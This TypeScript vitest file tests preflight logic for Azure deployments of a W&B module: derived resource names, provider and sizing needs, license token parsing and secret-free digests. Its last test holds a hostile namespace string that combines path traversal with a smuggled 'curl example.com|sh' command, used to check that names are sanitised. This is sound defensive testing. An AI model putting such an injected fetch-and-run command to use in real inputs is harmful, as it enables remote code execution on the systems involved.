import { expect, test } from 'vitest';
import { clusterNeed, databaseNeed } from '#lib/preflight/cluster-need.ts';
import { derivedNames } from '#lib/preflight/derived-names.ts';
import { licenseFactsOf } from '#lib/preflight/license-facts.ts';
import { subjectDigestOf, subjectOf } from '#lib/preflight/preflight-subject.ts';
import { requiredProviders } from '#lib/preflight/required-providers.ts';

const subject = (moduleVersion: string, inputs: Record<string, string | number | boolean | string[]> = {}, secretNames: string[] = []) => ({ moduleVersion, inputs: { namespace: 'acme-wandb', ...inputs }, secretNames });

test.each([
  ['7.9.2', 'acme-wandb', 'acmewandbstorage', 'acme-wandb-vault'],
  ['7.9.2', 'acme-wandb-team-one-two', 'acmewandbteamonetstorage', 'acme-wandb-team-one-two'],
  ['7.9.2', 'acme-wandb-team-vision', 'acmewandbteamvisistorage', 'acme-wandb-team-vision-v'],
  ['1.7.1', 'acme-wandb', 'acmewandbstorage', 'acme-wandb-vault'],
  ['1.7.1', 'acme-wandb-team-one', 'acmewandbteamonestorage', 'acme-wandb-team-one-vaul'],
])('module %s names what it makes of the namespace %s', (version, namespace, storageAccount, keyVault) => {
  expect(derivedNames(subject(version, { namespace }))).toMatchObject({ resourceGroup: namespace, dnsLabel: namespace, storageAccount, keyVault });
});

test.each([
  ['1.7.1', {}, true],
  ['5.1.3', { create_redis: false }, true],
  ['7.4.1', {}, true],
  ['7.9.2', { create_redis: false }, false],
  ['7.9.2', { create_redis: true }, true],
] as const)('module %s with %j makes a cache: %s', (version, inputs, makes) => {
  expect(derivedNames(subject(version, inputs)).redis !== null).toBe(makes);
  expect(requiredProviders(subject(version, inputs)).includes('Microsoft.Cache')).toBe(makes);
});

test('a bucket of one’s own takes the place of the storage account', () => {
  const own = { storage_account: 'mine', blob_container: 'wandb' };
  expect(derivedNames(subject('7.9.2', own)).storageAccount).not.toBeNull();
  expect(derivedNames(subject('7.9.2', own, ['storage_key'])).storageAccount).toBeNull();
  expect(derivedNames(subject('7.9.2', {}, ['external_bucket'])).storageAccount).toBeNull();
});

test('Event Grid is needed unless the queue is internal', () => {
  expect(requiredProviders(subject('7.9.2'))).toContain('Microsoft.EventGrid');
  expect(requiredProviders(subject('7.9.2', { use_internal_queue: true }))).not.toContain('Microsoft.EventGrid');
});

test.each([
  ['7.9.2', { size: 'small' }, { nodeType: 'Standard_E8s_v5', nodeVcpus: 8, zones: 2, minNodes: 2, maxNodes: 8 }],
  ['7.9.2', { size: 'medium', node_pool_zones: ['1', '3', '2'] }, { nodeType: 'Standard_E16s_v5', zones: 3, zoneNames: ['1', '3', '2'], minNodes: 3, maxNodes: 12 }],
  ['7.4.1', {}, { nodeType: 'Standard_E4s_v5', minNodes: 2, maxNodes: 8 }],
  ['5.1.3', { size: 'small' }, { nodeType: 'Standard_E4s_v5', minNodes: 2, maxNodes: 4 }],
  ['7.9.2', { kubernetes_instance_type: 'Standard_D16s_v5', kubernetes_min_node_per_az: 2, kubernetes_max_node_per_az: 3 }, { nodeType: 'Standard_D16s_v5', nodeVcpus: 16, minNodes: 4, maxNodes: 6 }],
  ['1.7.1', { kubernetes_instance_type: 'Standard_D4a_v4' }, { nodeType: 'Standard_D4s_v3', nodeVcpus: 4, minNodes: 2, maxNodes: 2 }],
] as const)('module %s with %j needs these nodes', (version, inputs, need) => {
  expect(clusterNeed(subject(version, inputs as never))).toMatchObject(need);
});

test.each([
  ['7.9.2', { size: 'large', database_version: '8.4' }, { sku: 'Standard_E8ds_v4', edition: 'MemoryOptimized', version: '8.4', highAvailability: 'SameZone' }],
  ['1.7.1', {}, { sku: 'Standard_D4ds_v4', edition: 'GeneralPurpose', version: '5.7' }],
  ['7.9.2', { database_sku_name: 'GP_Standard_D8ds_v4', database_availability_mode: 'ZoneRedundant' }, { sku: 'Standard_D8ds_v4', edition: 'GeneralPurpose', highAvailability: 'ZoneRedundant' }],
] as const)('module %s with %j needs this database', (version, inputs, need) => {
  expect(databaseNeed(subject(version, inputs))).toMatchObject(need);
});

const token = (payload: object) => `h.${Buffer.from(JSON.stringify(payload)).toString('base64url')}.s`;

test.each([
  [undefined, { given: false, hasBlanks: false, expiresAt: null }],
  ['  ', { given: false, hasBlanks: false, expiresAt: null }],
  ['not a token', { given: true, hasBlanks: true, expiresAt: null }],
  ['"opaque"', { given: true, hasBlanks: false, isMalformed: true, expiresAt: null }],
  ['license.txt', { given: true, hasBlanks: false, isMalformed: true, expiresAt: null }],
  ['opaque', { given: true, hasBlanks: false, expiresAt: null }],
  ['a.%%%.c', { given: true, hasBlanks: false, expiresAt: null }],
  [token({ exp: 1_800_000_000 }), { given: true, hasBlanks: false, expiresAt: '2027-01-15T08:00:00.000Z' }],
  [token({ exp: 'soon' }), { given: true, hasBlanks: false, expiresAt: null }],
])('of the license %s this can be said', (license, facts) => {
  expect(licenseFactsOf(license)).toEqual(facts);
});

test('what a preflight looks at holds no secret, and its digest does not depend on the order of keys', () => {
  const source = { target: 'azure', location: 'westeurope', moduleVersion: '7.9.2', backend: { kind: 'console' }, credentialId: null, subscriptionId: null, rotatedAt: null, practice: null } as const;
  const license = token({ exp: 1, secret: 'hush' });
  const one = subjectOf({ ...source, inputs: { a: 1, b: 2 } }, { license, storage_key: 'sesame' });
  const two = subjectOf({ ...source, inputs: { b: 2, a: 1 } }, { storage_key: 'other', license });
  expect(JSON.stringify(one)).not.toMatch(/hush|sesame|aHVzaA/);
  expect(subjectDigestOf(one)).toBe(subjectDigestOf(two));
  expect(subjectDigestOf(one)).not.toBe(subjectDigestOf({ ...one, location: 'northeurope' }));
  expect(subjectDigestOf(one)).not.toBe(subjectDigestOf({ ...one, rotatedAt: '2026-01-05T10:00:00.000Z' }));
});

test('a draft’s namespace leads nowhere else, and into no command', () => {
  const namespace = 'demo/../other?x=;curl example.com|sh #${HOME}';
  const { resourceGroup, keyVault, redis, dnsLabel } = derivedNames(subject('7.9.2', { namespace }));
  for (const name of [resourceGroup, keyVault, redis ?? '', dnsLabel]) expect(name).toMatch(/^[A-Za-z0-9-]*$/);
});
